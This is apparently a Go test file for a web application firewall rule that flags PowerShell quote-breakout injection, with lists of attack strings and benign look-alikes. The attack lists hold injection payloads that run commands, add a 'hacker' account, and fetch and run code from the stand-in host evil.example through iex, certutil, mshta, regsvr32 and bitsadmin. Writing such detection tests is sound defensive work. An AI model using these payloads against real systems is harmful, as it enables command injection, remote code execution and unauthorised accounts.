package waf

import (
	"testing"
)

// attack86BreakoutAttacks are attack 86's: a single-quoted (or
// double-quoted) string an application builds a PowerShell command
// with (Get-Mailbox -Identity '<value>') broken out of with a grouped
// command, which PowerShell runs while it reads the argument or the
// expression; each passed the CRS and every addition.
var attack86BreakoutAttacks = []string{
	"x' + (cmd /c whoami) + '",
	"x'+(iex 'whoami')+'",
	"x' (iex 'whoami') '",
	"x' + (iex(iwr http://evil.example/x)) + '",
	"x' + (certutil -urlcache -f http://evil.example/x.exe x.exe) + '",
	"x' + (net user hacker P4ss! /add) + '",
	"x' -f (cmd /c whoami) + '",
	// the same shape in more spellings
	"x' + @(whoami) + '",
	"x' + (saps cmd) + '",
	"x' + (mshta http://evil.example/x.hta) + '",
	"x' + (rundll32 evil.dll,Run) + '",
	"x' + (regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll) + '",
	"x' + (bitsadmin /transfer j http://evil.example/x.exe C:\\x.exe) + '",
	"x' + (pwsh -c whoami) + '",
}

// attack86BreakoutCRSCatches are more spellings of the same shape that
// the CRS alone refuses (its Windows and Unix command lists read the
// command, or $( ).
var attack86BreakoutCRSCatches = []string{
	"x\" + $(whoami) + \"",
	"x' + $(whoami) + '",
	"x' + (whoami) #",
	"x' + (& whoami) + '",
	"x', (whoami), '",
	"x' -join (whoami) + '",
	"x' + (Start-Process calc) + '",
	"x' + (powershell -nop -c whoami) + '",
	"x' + (C:\\Windows\\System32\\certutil.exe -decode a b) + '",
	"x' + (start powershell) + '",
	"x' + (systeminfo) + '",
	"x' + (tasklist /v) + '",
	"x' + (Invoke-WebRequest http://evil.example/x -OutFile x.exe) + '",
	"x' + (New-Object Net.WebClient).DownloadString('http://evil.example/x') + '",
	"x'+(iex(New-Object Net.WebClient).DownloadString('http://evil.example/x'))+'",
}

// attack86BreakoutBenign: prose with a quote and a bracket after it,
// code in forum posts, SQL (rule 210212's).
var attack86BreakoutBenign = []string{
	"Open the 'Run' dialog (cmd) and type it",
	"the 'Network' (net use) tab",
	"Press 'OK' (net settings) then",
	"He said 'yes' (whoami is a command)",
	"He said 'yes' (whoami is a command) 'really'",
	"'total' + (count of items)",
	"Run 'whoami' (whoami) to see your user",
	"Click 'Start' (start menu) + 'Run'",
	"the 'Tools' (certutil usage) + notes",
	"label = 'Total: ' + (count + 1) + ' items'",
	"sort='name' (asc)",
	"it's (net of tax) 'ok'",
	"Press 'Win+R' (run) then type 'cmd'",
	"the 'id' (identifier) + 'name' fields",
	"url = 'http://' + (hostname) + ':8080'",
	"label = 'Item ' + (id + 1) + ' of ' + (n * 2)",
	"'Windows' (ipconfig settings) + 'DNS'",
}

// attack86BreakoutCode: code in forum posts and prose that rule 210213
// lets through (checked on the operator alone: the CRS refuses each
// itself, for its quotes and brackets or a command's name).
var attack86BreakoutCode = []string{
	"print('x' + (a if b else c))",
	"'a' + (b || 'c')",
	"'a' + (select name from users) + 'b'",
	"Open 'Terminal' (cmd or PowerShell), then type dir",
	"msg = \"Hello \" + (user.name || 'guest') + \"!\"",
	"console.log('id: ' + (id) + ', ok')",
	"'x' + (whoami.length)",
	"'a' + (ls || 'none') + 'b'",
}

// TestAttack86HBPowerShellBreakout: rule 210213 (psQuoteBreakout)
// refuses attack 86's breakouts through a real Caddy, where the CRS alone
// lets them through, and none of the benign texts.
func TestAttack86HBPowerShellBreakout(t *testing.T) {
	for _, v := range attack86BreakoutCode {
		if psQuoteBreakout(v) {
			t.Errorf("210213 matches %q", v)
		}
	}
	operatorTable(t, "210213", psQuoteBreakout, attack86BreakoutAttacks, attack86BreakoutCRSCatches, attack86BreakoutBenign)
}
